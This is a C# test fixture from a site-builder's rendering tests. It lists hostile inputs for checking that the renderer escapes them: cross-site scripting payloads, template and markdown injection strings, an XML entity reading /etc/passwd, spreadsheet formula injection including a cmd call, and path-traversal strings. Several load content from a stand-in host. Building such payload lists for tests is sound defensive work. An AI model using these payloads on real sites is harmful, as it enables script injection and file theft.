namespace SiteBuilder.Tests.Rendering;

/// <summary>What an attacker would write where text is expected. Each names <c>harm</c>, by which it is found again; none holds a line break.</summary>
internal static class HostilePayloads
{
    /// <summary>Would add an element or an attribute where it is not escaped for its place: element, attribute, script, comment, JSON, XML, template.</summary>
    public static readonly IReadOnlyList<string> Markup =
    [
        "<script>harm()</script>", "</script><script>harm()</script>", "<ScRiPt src=//harm.example></sCrIpT>", "<script/harm>harm()</script>",
        "<img src=x onerror=harm()>", "\"><img src=x onerror=harm()>", "'><img src=x onerror='harm()'>", "`><img src=`x` onerror=harm()>",
        "<svg onload=harm()>", "<svg><script>harm()</script></svg>", "<svg><animate onbegin=harm() attributeName=x dur=1s>", "<math><mi xlink:href=javascript:harm()>甲</mi></math>",
        "\" onmouseover=harm() x=\"", "' onfocus=harm() autofocus '", "x onclick=harm()", "\" style=\"background:url(javascript:harm())",
        "<iframe src=javascript:harm()></iframe>", "<iframe srcdoc='<script>harm()</script>'>", "<object data=data:text/html,harm>", "<embed src=//harm.example>",
        "<base href=//harm.example/>", "<meta http-equiv=refresh content='0;url=//harm.example'>", "<link rel=stylesheet href=//harm.example>", "<style>@import'//harm.example'</style>",
        "<form action=//harm.example><input type=submit>", "<button formaction=javascript:harm()>甲</button>", "<details open ontoggle=harm()>", "<video><source onerror=harm()></video>",
        "<body onload=harm()>", "</title><script>harm()</script>", "</textarea><script>harm()</script>", "</style><script>harm()</script>", "</noscript><script>harm()</script>",
        "--><script>harm()</script><!--", "<!--><script>harm()</script>-->", "]]><script>harm()</script><![CDATA[", "<?harm echo?>", "<!DOCTYPE harm [<!ENTITY x SYSTEM 'file:///etc/passwd'>]>&x;",
        "&lt;script&gt;harm()&lt;/script&gt;", "&#60;script&#62;harm()&#60;/script&#62;", "\\u003cscript\\u003eharm()\\u003c/script\\u003e", "\"},\"harm\":{\"x\":\"", "\\\"};harm();//", "';harm();//", "${harm()}", "`+harm()+`",
        "[甲](javascript:harm())", "![甲](javascript:harm())", "<javascript:harm()>", "[甲](data:text/html;base64,harm)", "[甲](//harm.example)", "[甲](x \"y\\\" onclick=harm() z=\\\"\")",
        "javascript:harm()", "＜script＞harm()＜/script＞", "<harm-element harm=1>", "<a href=javascript:harm()>甲</a>",
        "<img src=/ onload=harm()>", "<img src=/ onerror=harm()>", "<img src=/ onmouseover=harm()>", "<input autofocus onfocus=harm()>",
        "<input autofocus onblur=harm()>", "<input autofocus oninput=harm()>", "<a href=# onclick=harm()>", "<a href=# onmouseenter=harm()>",
        "<a href=# onpointerdown=harm()>", "<div tabindex=0 onfocusin=harm()>", "<div tabindex=0 onkeydown=harm()>", "<div tabindex=0 oncopy=harm()>",
        "<p style=animation-name:x onanimationstart=harm()>", "<p style=animation-name:x onanimationend=harm()>", "<video src=/x onloadstart=harm()>", "<video src=/x onerror=harm()>",
        "<audio src=/x onerror=harm()>", "<select autofocus onchange=harm()>", "<textarea autofocus onfocus=harm()>", "<marquee onstart=harm()>",
        "<table onwheel=harm()>", "<td onpointerover=harm()>", "<svg onload=harm()>", "<svg onclick=harm()>",
        "<iframe onload=harm()>", "<object data=/x onerror=harm()>", "<body onpageshow=harm()>", "<body onhashchange=harm()>",
        "<svg><set attributeName=onload to=harm()>", "<svg><a xlink:href=javascript:harm()><text y=20>甲</text></a></svg>", "<svg><use href=data:image/svg+xml,harm#x></svg>", "<svg><foreignObject><img src=x onerror=harm()></foreignObject></svg>",
        "<svg><animate href=#x attributeName=href values=javascript:harm()>", "<svg><style><img src=x onerror=harm()></style></svg>", "<svg><title><img src=x onerror=harm()></title></svg>", "<svg/onload=harm()>",
        "<svg xmlns='http://www.w3.org/2000/svg'><script>harm()</script></svg>",
        "<noscript><p title=\"</noscript><img src=x onerror=harm()>\">", "<math><mtext><table><mglyph><style><img src=x onerror=harm()></style></mglyph></table></mtext></math>", "<form><math><mtext></form><form><mglyph><style></math><img src=x onerror=harm()>", "<template><img src=x onerror=harm()></template>",
        "<xmp><img src=x onerror=harm()></xmp>", "<listing>&lt;img src=x onerror=harm()&gt;</listing>", "<plaintext><img src=x onerror=harm()>", "<select><option><img src=x onerror=harm()></option></select>",
        "<table><img src=x onerror=harm()></table>", "<a><table><a onclick=harm()>甲</a></table></a>", "</p><img src=x onerror=harm()>", "</td></tr></table><img src=x onerror=harm()>",
        "</h1><img src=x onerror=harm()>", "</a><img src=x onerror=harm()>", "</head><body onload=harm()>", "<image src=x onerror=harm()>",
        "<isindex action=javascript:harm() type=image>", "<keygen autofocus onfocus=harm()>", "<dialog open onclose=harm()>", "<portal src=javascript:harm()>",
        "<x contenteditable onbeforeinput=harm()>甲</x>",
        "<<script>harm()//<</script>", "<scr<script>ipt>harm()</scr</script>ipt>", "<script src=/harm.js></script>", "<script type=module>harm()</script>",
        "<script type=text/javascript>harm()</script>", "<img src=x:alert(harm) onerror=eval(src)>", "<img/src/onerror=harm()>", "<img src='x'onerror=harm()>",
        "<IMG SRC=JaVaScRiPt:harm()>", "<img src=\"jav&#x09;ascript:harm()\">", "<img srcset=x onerror=harm()>", "<picture><source srcset=x onerror=harm()><img onerror=harm()></picture>",
        "<input type=image src=x onerror=harm()>", "<body background=javascript:harm()>", "<td background=javascript:harm()>", "<link rel=import href=//harm.example>",
        "<link rel=preload as=script href=//harm.example>", "<meta http-equiv=Content-Security-Policy content='script-src *'>", "<meta charset=utf-7>+ADw-script+AD4-harm()+ADw-/script+AD4-", "<style>*{background:url(//harm.example)}</style>",
        "<div style=\"background:url(//harm.example)\">", "<p style=width:expression(harm())>", "<frameset onload=harm()>", "<applet code=harm>",
        "<bgsound src=javascript:harm()>", "<layer src=//harm.example>", "%3Cscript%3Eharm()%3C/script%3E", "&#x3c;img src=x onerror=harm()&#x3e;",
        "\\x3cimg src=x onerror=harm()\\x3e", "\\74script\\76harm()\\74/script\\76", "&amp;lt;script&amp;gt;harm()", "&NewLine;javascript:harm()",
        "&quot; onmouseover=harm() &quot;", "&#34; onfocus=harm() autofocus &#34;",
        "{{ harm() }}", "{{ include '/etc/passwd' }}", "{{ 1 + 1 | harm }}", "{%raw%}harm{%endraw%}",
        "{{{harm}}}", "<%= harm() %>", "#{harm()}", "{表三:harm}",
        "{{ 'harm' | eval }}", "{{ harm.constructor }}", "[[harm]]", "@{harm()}",
        "$(harm)", "`harm`", "%{harm}",
        "');harm();//", "\");harm();//", "</script><!--<script>harm()", "*/harm();/*",
        "\\';harm();//", "__proto__harm", "constructor.harm", "]}];harm();//",
        "\"-harm()-\"", "'-harm()-'", "harm\\", "<!--harm",
        "-->harm",
        "[甲](JaVaScRiPt:harm())", "[甲](java%0ascript:harm())", "[甲](&#106;avascript:harm())", "[甲](vbscript:harm())",
        "[甲](file:///etc/passwd?harm)", "[甲](\\\\harm.example\\x)", "[甲](https:harm.example)", "![x](//harm.example/x.png)",
        "![x](https://harm.example/x.png)", "[甲]: javascript:harm()", "<https://x/onclick=harm()>", "[甲](<javascript:harm()>)",
        "[甲](data:image/svg+xml;base64,harm)", "[甲](x){onclick=harm()}", "# 甲 {onclick=harm()}", "```harm onclick=harm()",
        "|harm|<img src=x onerror=harm()>|", "[^harm]", "~~<img src=x onerror=harm()>~~", "**<img src=x onerror=harm()>**",
    ];

    /// <summary>Would be computed by a spreadsheet that opens the download.</summary>
    public static readonly IReadOnlyList<string> Formulas =
    [
        "=harm()", "+harm()", "-harm()", "@harm()", "=cmd|'/c harm'!A1", "=HYPERLINK(\"//harm.example\")", "＝harm()", "＋harm()", "－harm()", "＠harm()",
    ];

    /// <summary>Would leave the folder where they become a path.</summary>
    public static readonly IReadOnlyList<string> Paths =
    [
        "../harm", "../../../../harm", "..\\..\\harm", "/harm", "C:\\harm", "%2e%2e%2fharm", "....//harm", "harm/../../harm", "file:///harm", "..%c0%afharm",
    ];

    public static IReadOnlyList<string> All { get; } = [.. Markup, .. Formulas, .. Paths];
}
